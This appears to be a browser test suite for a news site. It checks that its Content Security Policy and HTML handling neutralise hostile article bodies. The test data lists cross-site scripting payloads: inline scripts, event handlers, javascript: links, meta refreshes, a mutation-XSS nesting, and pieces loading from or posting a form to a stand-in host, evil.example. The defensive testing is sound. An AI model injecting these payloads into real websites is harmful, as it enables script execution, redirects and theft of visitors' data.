import path from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type DemoApi, startDemoApi } from '../../scripts/demoApi'
import { allowErrors } from '../support/consoleErrors'
import { openBrowser, openPage } from '../support/openBrowser'
import { shareSite } from '../support/shareSite'
import { type RunningSite, startSite } from '../support/startSite'
import { tenants } from '../support/tenants'

/** Attacks by someone with a publisher's account. Each tries to set `window.ran`, or to navigate away. */
const pieces = {
  script: '<script>window.ran = "script"</script>',
  'script of a foreign address': '<script src="https://evil.example/a.js"></script>',
  handler: '<img src="data:," alt="" onerror="window.ran = \'handler\'">',
  'frame with a text of its own': '<iframe srcdoc="<script>parent.ran = \'srcdoc\'</script>"></iframe>',
  'foreign frame': '<iframe src="https://evil.example/frame"></iframe>',
  'foreign style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  object: '<object data="https://evil.example/a.swf"></object>',
  base: '<base href="https://evil.example/">',
  refresh: '<meta http-equiv="refresh" content="0;url=/offers">',
  'refresh that a browser with scripts alone sees':
    '<noscript><p title="</noscript><meta http-equiv=refresh content=0;url=/offers>">x</p></noscript>',
  form: '<form action="https://evil.example/take"><input name="word" value="x"><button>Send it</button></form>',
  link: '<a href="javascript:window.ran = \'link\'">Press me</a>',
  end: '</div></main></body></html>',
  'refresh in a nesting that reads otherwise when it is written out':
    '<form><math><mtext></form><form><mglyph><style></math><meta http-equiv="refresh" content="0;url=/offers">',
}

/** Unclosed markup that could swallow the rest of the page. */
const openEnds = [
  '<!-- never closed',
  '<div><b><table><tr><td>never closed',
  '<textarea>never closed',
  '<style>never closed',
  '<script>never closed',
  '<script><!-- <script> never closed',
  '<title>never closed',
  '<plaintext>never closed',
  '<select><option>never closed',
  '<svg><desc>never closed',
  '<a href="/x" title="never closed',
]

let api: DemoApi
let site: RunningSite
let browser: Browser

beforeAll(async () => {
  api = await startDemoApi({ folder: path.resolve('private/tenants'), token: 'demo' })
  const texts = [Object.values(pieces).join('\n\n'), ...openEnds]
  api.edit((data) => {
    const articles = data.articles as object[]
    texts.forEach((text, index) => {
      const slug = `hostile-${index}`
      articles.push({ id: slug, slug, title: slug, body: `First words.\n\n${text}\n\nLast words.\n` })
    })
  })
  site = await startSite({ API_BASE: api.url, API_TOKEN: 'demo', WEBSITE_ID: 'harbour-post' })
  browser = await openBrowser()
})
afterAll(async () => {
  await browser.close()
  await site.stop()
  await api.close()
})

/** Records violations of the CSP from before the first byte: their directive and source. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = []
    Object.assign(window, { seen })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      seen.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
  return () => page.evaluate(() => (window as unknown as { seen: string[] }).seen)
}

const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran)

/** Expects header, text and footer as siblings, as on any other page. */
async function expectWhole(page: Page): Promise<void> {
  expect(await page.locator('main#content').count()).toBe(1)
  expect(await page.locator('[itemprop=articleBody]').textContent()).toContain('First words.')
  const footer = page.locator('footer').last()
  expect(await footer.textContent()).toContain('Harbour Post')
  expect(await footer.evaluate((element) => element.closest('[itemprop=articleBody], main'))).toBeNull()
  const enclosed = await page
    .locator('[itemprop=articleBody]')
    .evaluate((text) => text.querySelector('footer, nav, h1'))
  expect(enclosed).toBeNull()
}

describe('a hostile text', () => {
  beforeEach(() => allowErrors(/Content Security Policy/, /404 .*\/media\//))

  it('is shown without running, navigating away or breaking the page', async () => {
    const { page, context } = await openPage(browser)
    const addresses: string[] = []
    const refused: string[] = []
    page.on('framenavigated', (frame) => addresses.push(frame.url()))
    page.on('requestfailed', (request) => refused.push(request.url()))
    page.on('response', (response) => addresses.push(response.url()))
    const violations = await watchViolations(page)
    await page.goto(`${site.url}/article/hostile-0`, { waitUntil: 'networkidle' })
    expect((await violations()).sort()).toEqual([
      'base-uri https://evil.example/',
      'script-src-attr inline',
      'script-src-elem inline',
      'style-src-elem https://evil.example/a.css',
    ])
    expect(refused).toEqual(['https://evil.example/a.css'])
    await page.getByText('Press me').click()
    expect(await ran(page)).toBeUndefined()
    expect(page.url()).toBe(`${site.url}/article/hostile-0`)
    expect(addresses.filter((url) => url.includes('evil.example') || url.endsWith('/offers'))).toEqual([])
    await expectWhole(page)
    expect(await page.locator('[itemprop=articleBody]').textContent()).toContain('Last words.')
    await page
      .locator('[itemprop=articleBody] form')
      .first()
      .evaluate((form: HTMLFormElement) => form.requestSubmit())
    await expect.poll(violations).toContain('form-action https://evil.example/take?word=x')
    await context.close()
  })

  describe.each([true, false])('with unclosed markup; JavaScript: %s', (javaScriptEnabled) => {
    let page: Page

    beforeAll(async () => {
      page = (await openPage(browser, { javaScriptEnabled })).page
    })
    afterAll(() => page.context().close())

    it.each(openEnds.map((text, index) => [text, index + 1] as const))(
      'does not break the page with %s',
      async (_, number) => {
        await page.goto(`${site.url}/article/hostile-${number}`)
        await expectWhole(page)
      },
    )
  })
})

describe('content security policy', () => {
  const unopened = { websiteId: 'harbour-post-coming-soon', theme: 'news', pages: ['/', '/agenda'] }
  const closed = { websiteId: 'harbour-post-maintenance', theme: 'news', pages: ['/'] }

  it.each([...tenants, unopened, closed])('of $websiteId blocks nothing of our own', async ({ websiteId, pages }) => {
    allowErrors(/status of 503 /)
    const own = await shareSite({ WEBSITE_ID: websiteId, DEV_PAGES: '1' })
    const { page, context } = await openPage(browser)
    const violations = await watchViolations(page)
    for (const route of pages) {
      const answer = await page.goto(own.url + route, { waitUntil: 'networkidle' })
      expect(answer?.headers()['content-security-policy']).toContain("default-src 'none'")
      expect([route, await violations()]).toEqual([route, []])
    }
    await context.close()
    await own.stop()
  })

  it('blocks injected scripts', async () => {
    allowErrors(/Content Security Policy/)
    const { page, context } = await openPage(browser)
    const violations = await watchViolations(page)
    await page.goto(site.url)
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.ran = "injected"'
      document.body.append(script)
      document.body.setAttribute('onclick', 'window.ran = "attribute"')
      document.body.click()
    })
    expect(await ran(page)).toBeUndefined()
    expect(await violations()).toEqual(['script-src-elem inline', 'script-src-attr inline'])
    await context.close()
  })
})
